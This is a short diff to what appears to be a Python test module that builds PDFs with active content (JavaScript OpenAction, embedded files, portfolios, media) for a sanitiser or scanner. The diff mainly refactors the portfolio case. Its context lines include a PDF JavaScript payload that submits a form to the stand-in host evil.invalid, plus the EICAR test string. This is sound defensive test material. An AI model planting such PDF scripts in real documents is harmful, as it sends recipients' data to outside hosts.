@@ -19,7 +19,7 @@ MARK = "evilmark"
 JS = f"app.alert('{MARK}');this.submitForm('http://evil.invalid/')"
 EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 
-Make = Callable[[pikepdf.Pdf], None]
+Make = Callable[[pikepdf.Pdf], object]
 
 
 def saved(pdf: pikepdf.Pdf, **how) -> bytes:
@@ -138,6 +138,11 @@ def rich(pdf: pikepdf.Pdf) -> None:
     annotate(pdf, "RichMedia", RichMediaContent=content)
 
 
+def portfolio(pdf: pikepdf.Pdf) -> None:
+    root(pdf, "Collection", Dictionary(View=Name.D, X=String(MARK)))
+    names(pdf, "EmbeddedFiles", file_spec(pdf))
+
+
 ACTIVE: dict[str, bytes] = {
     "javascript at opening": changed(lambda p: root(p, "OpenAction", js(p))),
     "javascript in a stream": changed(lambda p: root(p, "OpenAction", js_stream(p))),
@@ -183,8 +188,7 @@ ACTIVE: dict[str, bytes] = {
     "associated file": changed(lambda p: root(p, "AF", Array([file_spec(p)]))),
     "associated file of a page": changed(lambda p: page(p, "AF", Array([file_spec(p)]))),
     "file as an annotation": changed(lambda p: annotate(p, "FileAttachment", FS=file_spec(p))),
-    "portfolio": changed(lambda p: (root(p, "Collection", Dictionary(View=Name.D, X=String(MARK))),
-                                    names(p, "EmbeddedFiles", file_spec(p)))),
+    "portfolio": changed(portfolio),
     "rich media": changed(rich),
     "sound": changed(lambda p: annotate(p, "Sound", Sound=Stream(p, MARK.encode()))),
     "movie": changed(lambda p: annotate(p, "Movie", Movie=Dictionary(F=String(MARK)))),
